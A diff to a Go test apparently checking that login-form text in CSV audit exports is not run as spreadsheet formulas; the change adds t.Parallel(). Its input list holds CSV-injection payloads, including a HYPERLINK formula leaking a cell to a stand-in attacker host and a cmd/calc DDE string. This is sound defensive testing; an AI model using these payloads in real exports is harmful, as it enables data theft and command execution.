@@ -10,6 +10,7 @@ import (
 // login form reaches the audit log's CSV exports as text, never as a cell
 // a spreadsheet runs as a formula.
 func TestAuditExportFormulaCells(t *testing.T) {
+	t.Parallel()
 	e := newEnv(t)
 	// (in lower case and without spaces around: login keeps e-mails so)
 	typed := []string{`=hyperlink("https://evil.example/?"&a1,"x")`, "+1+cmd|' /c calc'!a0", "-2+3", "@sum(1)"}
